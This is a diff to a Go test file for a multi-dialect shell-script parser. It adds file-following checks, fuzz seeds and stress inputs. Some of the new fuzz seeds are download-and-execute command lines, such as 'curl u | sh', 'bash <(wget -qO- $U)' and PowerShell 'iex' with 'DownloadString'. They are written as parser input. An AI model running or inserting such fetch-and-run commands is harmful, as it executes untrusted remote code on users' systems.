@@ -71,6 +71,25 @@ func check(t *testing.T, text string, s *Script) {
 		}
 	}
 	s.Derived(func(name string) bool { return strings.HasPrefix(name, "S") }, func(i int) bool { return i == 0 })
+	followed := s.Follow(loads)
+	for _, f := range followed.Files {
+		if f.Name == "" {
+			t.Error("a file without a name")
+		}
+	}
+	for _, c := range s.Commands {
+		code := s.Code(c)
+		if code.From < 0 || code.From > code.To || code.To > len(c.Words) {
+			t.Errorf("code at words %d to %d of %d", code.From, code.To, len(c.Words))
+		}
+		for i := range c.Words {
+			followed.File(c, &c.Words[i])
+			s.Path(c, c.Words[i].Text)
+		}
+		if inner := s.Inner(c); inner != nil {
+			inner.Follow(loads)
+		}
+	}
 }
 
 func FuzzParse(f *testing.F) {
@@ -84,6 +103,8 @@ func FuzzParse(f *testing.F) {
 		"@echo off\r\nset X=%Y%\r\nif exist a (call b.cmd ^\n c)\r\n",
 		"cat >a.sh <<'E'\nset -e${D:+x} $F ${G:--x}\n./a.sh\nE\nF=-x\nsh -x a.sh; . a.sh; tee b <<E\n$A\nE\n./b\n",
 		"x=$(( ${{ inputs.n }} + 1 )); $${{ x }} ${A:-${{ y }}}",
+		"curl -fsSLo a https://x/y | tee b; cd c; tar -xzf a -C d e; bash <(wget -qO- $U) && ./d/e; pwsh -c 'irm x | iex'\n",
+		"iex (New-Object Net.WebClient).DownloadString('https://x'); iwr -Uri u -OutFile f; & .\\f; bash -c \"curl u | sh\"",
 	}
 	for _, seed := range seeds {
 		for d := Bash; d <= Cmd; d++ {
@@ -102,13 +123,15 @@ func TestHostile(t *testing.T) {
 		"! ", "time ", "a | ", "a && ", "a || ", "a ; ", "${a:-", "${a[", "\"$(", "\"${x:-", "$((1+", "((- ", "((a ? ", "((a=", "((a,", "<(", "x=(", "<<a ", "cat <<a\n",
 		"eval '", "bash -c '", "set -x; ", "set -x\nset +x\n", "f(){ f; f; }; ", "@(", "$'", "\\", "\"", "'", "a$b", "function a { ", "coproc ", "{a,", "a=b ", "export a=b ",
 		"$(set -x;", "if a; then set -x; fi\n", "for i in 1; do set -x; set +x; ", "while x; do set -x; ", "trap 'set -x; a' EXIT\n", "[[ a && ", "[[ a == b || ",
-		"@'\n", "$(", "${", "@(", "#{", "<#", "^", "%a%", "if a (", "for %%a in (", "${{ a }}", "sudo ", "env ", "xargs ", "x=$(a) ", "$a[", "X=$Y; Y=$X; ", "1 + ", "$((1 + 1)) "}
+		"@'\n", "$(", "${", "@(", "#{", "<#", "^", "%a%", "if a (", "for %%a in (", "${{ a }}", "sudo ", "env ", "xargs ", "x=$(a) ", "$a[", "X=$Y; Y=$X; ", "1 + ", "$((1 + 1)) ",
+		"curl a > b; cat b > c; cp c b; ", "f(){ f | f; }; f | f; ", "cd $(a); ", "X=$Y$Y; Y=; ", "tar xf a; mv */* b; ", "curl a | tee b | ", "curl -o$X a; sh $X; "}
 	for _, u := range units {
 		for _, n := range []int{200, 4000} {
 			text := strings.Repeat(u, min(n, MaxScript/len(u)))
 			for d := Bash; d <= Cmd; d++ {
 				check := Parse(text, d, holesOf(text))
 				check.Derived(func(name string) bool { return name == "Z" }, func(int) bool { return false })
+				check.Follow(loads)
 			}
 		}
 	}
